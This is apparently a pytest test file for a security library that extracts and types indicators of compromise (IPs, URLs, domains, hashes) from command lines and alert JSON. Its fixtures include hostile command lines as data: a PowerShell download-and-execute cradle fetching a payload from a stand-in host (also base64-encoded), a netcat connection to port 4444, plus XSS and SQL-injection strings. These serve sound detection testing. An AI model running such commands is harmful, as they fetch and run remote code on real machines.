"""IoC extraction and typing from command lines, messages and alert entities."""

from __future__ import annotations

import json
import time

import pandas as pd
import pytest

from nbcatalog.enrich.errors import EnrichmentError
from nbcatalog.enrich.iocs import (
    IOC_TYPES,
    canonical_type,
    extract_entity_iocs,
    extract_iocs,
    infer_type,
    is_domain,
    normalize_ioc,
)

pytest_plugins = ["enrich_support"]  # no_network

MD5 = "d41d8cd98f00b204e9800998ecf8427e"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def pairs(frame: pd.DataFrame) -> list[tuple[str, str]]:
    return list(zip(frame["Ioc"], frame["IocType"], strict=True))


def test_command_line_indicators_are_found_and_typed(no_network):
    cmd = (
        'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
        "'http://malicious.example/payload.ps1')\"; nc 192.0.2.66 4444; "
        f"certutil -hashfile C:\\Users\\bob\\a.exe SHA256 => {SHA256.upper()}"
    )
    found = pairs(extract_iocs(cmd))
    assert found == [
        ("http://malicious.example/payload.ps1", "url"),
        ("malicious.example", "dns"),
        ("192.0.2.66", "ipv4"),
        (SHA256, "sha256_hash"),  # lower-cased
    ]
    assert no_network == []  # the public-suffix list is the bundled snapshot


def test_every_type_and_the_things_that_look_like_them_but_are_not():
    text = (
        f"md5 {MD5} sha1 {SHA1} v6 2001:db8::dead:beef and fe80::1, "
        "host www.google.co.uk at 10:20:30 mac 00:1a:2b:3c:4d:5e version 10.0.19041.1 "
        "bad 999.1.1.1 file powershell.exe path C:\\Windows\\evil.com.bak "
        "ends at 1.2.3.4."
    )
    found = pairs(extract_iocs(text))
    assert (MD5, "md5_hash") in found
    assert (SHA1, "sha1_hash") in found
    assert ("2001:db8::dead:beef", "ipv6") in found
    assert ("fe80::1", "ipv6") in found
    assert ("www.google.co.uk", "dns") in found
    assert ("1.2.3.4", "ipv4") in found  # the sentence's full stop is not part of it
    values = {v for v, _ in found}
    for not_an_ioc in ("10:20:30", "00:1a:2b:3c:4d:5e", "10.0.19041.1", "999.1.1.1"):
        assert not_an_ioc not in values
    assert "powershell.exe" not in values  # .exe is not a public suffix
    assert {t for _, t in found} <= set(IOC_TYPES)


def test_types_filter_and_source_index_join_back_to_rows():
    cmds = pd.Series(
        ["ping 8.8.8.8", None, "curl https://x.example/a", 42, "nothing here"],
        index=[10, 11, 12, 13, 14],
    )
    df = extract_iocs(cmds, types=["ip", "url"])
    assert df.values.tolist() == [["8.8.8.8", "ipv4", 10], ["https://x.example/a", "url", 12]]
    assert extract_iocs(cmds, types="domain")["Ioc"].tolist() == ["x.example"]
    assert extract_iocs(None).empty
    with pytest.raises(EnrichmentError, match="unknown IoC type 'mac'"):
        extract_iocs("x", types=["mac"])


def test_attacker_markup_is_text_and_yields_only_real_indicators():
    text = '<script>alert("nbcatalog")</script> <img src=x onerror=alert(1)> http://a.example/x<b>'
    assert pairs(extract_iocs(text)) == [
        ("http://a.example/x", "url"),
        ("a.example", "dns"),
    ]


@pytest.mark.parametrize(
    "payload",
    [
        "a" * 1_000_000,
        "a." * 300_000,
        "1." * 300_000,
        "0:" * 300_000,
        "f" * 1_000_001,
        "http://" + "a" * 500_000,
        ("a" * 63 + ".") * 5_000,
        "powershell -enc " + "QQBBAA" * 400_000,  # over the decode limit: skipped
        "-e QQBBAEEAQQA= " * 50_000,
    ],
)
def test_huge_and_pathological_input_is_handled_quickly(payload):
    started = time.perf_counter()
    df = extract_iocs(payload)
    assert time.perf_counter() - started < 3.0
    assert df.empty


def test_powershell_encoded_commands_are_decoded_and_searched():
    import base64

    hidden = "IEX (New-Object Net.WebClient).DownloadString('http://malicious.example/p.ps1')"
    payload = base64.b64encode(hidden.encode("utf-16-le")).decode()
    for flag in ("-enc", "-e", "-EncodedCommand", "/ec", "-En"):
        cmd = f"powershell.exe -nop -w hidden {flag} {payload}"
        assert pairs(extract_iocs(cmd)) == [
            ("http://malicious.example/p.ps1", "url"),
            ("malicious.example", "dns"),
        ], flag
    cmd = f"powershell.exe -enc {payload}"
    assert extract_iocs(cmd, decode=False).empty
    # Look-alike flags and junk payloads are left alone.
    assert extract_iocs(f"tool.exe -encrypt {payload}").empty
    assert extract_iocs("powershell -enc !!notbase64!!").empty
    assert extract_iocs("powershell -enc QUJDREVGR0g=").empty  # base64, but not UTF-16 text


def test_alert_entities_json():
    entities = json.dumps(
        [
            {"$id": "1", "Type": "ip", "Address": "203.0.113.77"},
            {"$id": "2", "Type": "host", "HostName": "WKSTN-042", "DnsDomain": "contoso.com"},
            {"$id": "3", "Type": "account", "Name": "bob", "NTDomain": "CONTOSO"},
            {
                "$id": "4",
                "Type": "process",
                "CommandLine": "powershell -c iwr http://malicious.example/payload.ps1",
            },
            {"$id": "5", "Type": "filehash", "Algorithm": "SHA256", "Value": SHA256},
            {"$id": "6", "Type": "url", "Url": "http://malicious.example/payload.ps1"},
            {"$ref": "1"},
        ]
    )
    df = extract_entity_iocs(entities)
    assert pairs(df) == [
        ("203.0.113.77", "ipv4"),
        ("contoso.com", "dns"),
        ("http://malicious.example/payload.ps1", "url"),
        ("malicious.example", "dns"),
        (SHA256, "sha256_hash"),
    ]
    assert df.set_index("Ioc").loc["203.0.113.77", "EntityType"] == "ip"
    assert df.set_index("Ioc").loc[SHA256, "EntityType"] == "filehash"
    # Already parsed entities work the same.
    assert pairs(extract_entity_iocs(json.loads(entities))) == pairs(df)
    assert pairs(extract_entity_iocs(entities, types=["ip"])) == [("203.0.113.77", "ipv4")]


def test_broken_entities_are_searched_as_text():
    truncated = (
        '[{"$id":"1","Type":"ip","Address":"198.51.100.23"},{"$id":"2","Type":"url","Url":"ht'
    )
    assert pairs(extract_entity_iocs(truncated)) == [("198.51.100.23", "ipv4")]
    assert extract_entity_iocs(None).empty
    assert extract_entity_iocs("").empty
    assert extract_entity_iocs("[]").empty
    # A typed field holding junk is skipped, not trusted.
    junk = [{"Type": "ip", "Address": "x' OR '1'='1"}, {"Type": "url", "Url": 5}]
    assert extract_entity_iocs(junk).empty


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("8.8.8.8", "ipv4"),
        ("2001:DB8::1", "ipv6"),
        ("http://malicious.example/payload.ps1", "url"),
        ("https://[2001:db8::1]:8443/a", "url"),
        ("malicious.example", "dns"),
        ("evil.co.uk", "dns"),
        (MD5.upper(), "md5_hash"),
        (SHA1, "sha1_hash"),
        (SHA256, "sha256_hash"),
        ("x' OR '1'='1", None),
        ('x" | where 1==1', None),
        ("WKSTN-042", None),
        ("powershell.exe", None),
        ("http://", None),
        ("", None),
        (None, None),
        ("a" * 10_000, None),
    ],
)
def test_infer_type(value, expected):
    assert infer_type(value) == expected


def test_normalize_ioc_checks_and_normalises():
    assert normalize_ioc(" 2001:0DB8::0001 ") == ("2001:db8::1", "ipv6")
    assert normalize_ioc("Malicious.Example.") == ("malicious.example", "dns")
    assert normalize_ioc(SHA1.upper(), "hash") == (SHA1, "sha1_hash")
    assert normalize_ioc("8.8.8.8", "ip") == ("8.8.8.8", "ipv4")
    assert normalize_ioc("HTTP://A.example/Path") == ("HTTP://A.example/Path", "url")
    with pytest.raises(ValueError, match="not a valid ipv4 value .*looks like dns"):
        normalize_ioc("malicious.example", "ipv4")
    with pytest.raises(ValueError, match="is not an IoC; expected a url value"):
        normalize_ioc("x' OR '1'='1", "url")
    with pytest.raises(ValueError, match="too long"):
        normalize_ioc("a" * 9000)
    with pytest.raises(ValueError, match="must be text"):
        normalize_ioc(12345)


def test_type_names_and_aliases():
    assert canonical_type("domain") == "dns"
    assert canonical_type(" SHA256 ") == "sha256_hash"
    assert canonical_type("ip") == "ip"
    with pytest.raises(EnrichmentError, match="accepted: ipv4, ipv6, url, dns"):
        canonical_type("hostnames")


def test_is_domain_accepts_reserved_test_names():
    assert is_domain("malicious.example")
    assert is_domain("c2.test")
    assert is_domain("dc01.contoso.local")
    assert not is_domain("localhost")
    assert not is_domain("a..example")
    assert not is_domain("-bad.example")
